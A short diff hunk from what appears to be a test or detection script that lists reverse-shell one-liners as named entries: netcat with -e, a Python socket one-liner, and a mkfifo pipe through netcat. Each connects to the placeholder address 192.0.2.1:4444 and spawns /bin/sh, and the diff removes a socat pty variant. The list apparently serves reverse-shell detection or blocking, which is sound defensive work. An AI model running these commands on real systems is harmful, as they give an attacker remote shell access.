@@ -61,7 +61,6 @@ shell "nc -e" "nc.traditional 192.0.2.1 4444 -e /bin/sh"
 shell "a python one-liner" "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
 [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\"])'"
 other_shell "a shell behind pipes" "mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional 192.0.2.1 4444 >/tmp/pipe"
-other_shell "a shell behind a pty" "socat tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid"
 stop reverse-shell
 
 session reverse-shell-descriptors no-reverse-shell || return
